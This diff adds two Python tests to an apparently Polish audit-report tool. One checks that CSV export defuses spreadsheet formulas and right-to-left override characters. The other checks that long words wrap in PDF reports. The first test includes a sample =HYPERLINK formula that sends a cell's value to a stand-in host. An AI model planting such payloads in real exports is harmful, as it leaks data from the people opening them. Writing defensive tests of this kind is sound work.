@@ -319,3 +319,48 @@ def test_a_time_without_a_zone_is_polish_time_over_soap_as_on_the_command_line()
     assert request.since == parse_moment("2026-12-05T07:27", end=False)
     assert request.since == dt.datetime(2026, 12, 5, 6, 27, tzinfo=dt.UTC)
     assert request.until == dt.datetime(2027, 7, 1, 12, 0, tzinfo=ZoneInfo("Europe/Warsaw"))  # summer time
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_or_show_reversed_is_shown_as_text(store: AuditStore) -> None:
+    """Findings (reports and sweep passes): a purpose `=HYPERLINK(...)` typed by a clerk was a live formula in the
+    auditor's spreadsheet, and a right-to-left override in a case number (kept in `powod`) reversed what the auditor
+    read. A cell starting like a formula gets the spreadsheet's text mark `'`; controls show as code points."""
+    from dataclasses import replace
+
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1;"Kliknij")'
+    record = replace(disclosure(1), purpose=formula, legal_basis="+48", reason="ZnakSprawy=OPS.\u202e6202.21")
+    store.append([record])
+    period = ReportRequest(ReportKind.PERIOD, since=START - dt.timedelta(days=1))
+    text = build_report(store, period, ReportFormat.CSV, requested_by=AUDITOR)
+    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
+    cells = rows[-1]
+    assert "'" + formula in cells and "'+48" in cells
+    assert "ZnakSprawy=OPS.<U+202E>6202.21" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_a_long_word_in_a_pdf_report_wraps_within_the_page() -> None:
+    """Finding (reports pass): a 999-character purpose without a space (the WSDL allows 1,000) ran on one line to
+    x ≈ 7,700 px of a 1,123 px page: most of it was not on the paper."""
+    needs_pdf()
+    import weasyprint
+
+    row = {
+        "nr": 1, "time": "01.01.2026 10:00", "office": "OPS", "user": "ops.pracownik", "data_set": "PUP",
+        "controller": "PUP", "categories": ["Dane osobowe"], "legal_basis": "UPS-2004", "purpose": "x" * 999,
+        "outcome": "UJAWNIENIE", "refused": False, "pesel": "90051712344",
+    }  # fmt: skip
+    values = {
+        "title": "Raport", "kind": "OKRES", "issuer": "Powiat", "made": "", "requester": "audytor", "pesel": "",
+        "user": "", "office": "", "since": "", "until": "", "with_refusals": False, "rows": [row], "count": 1,
+    }  # fmt: skip
+    page = weasyprint.HTML(string=render_html(values)).render().pages[0]
+
+    def boxes(box: object) -> Iterator[object]:
+        yield box
+        for child in getattr(box, "children", None) or []:
+            yield from boxes(child)
+
+    laid_out = [b for b in boxes(page._page_box) if getattr(b, "width", None) is not None]  # type: ignore[attr-defined]
+    right = max(b.position_x + b.width for b in laid_out)  # type: ignore[attr-defined]
+    assert right <= page.width
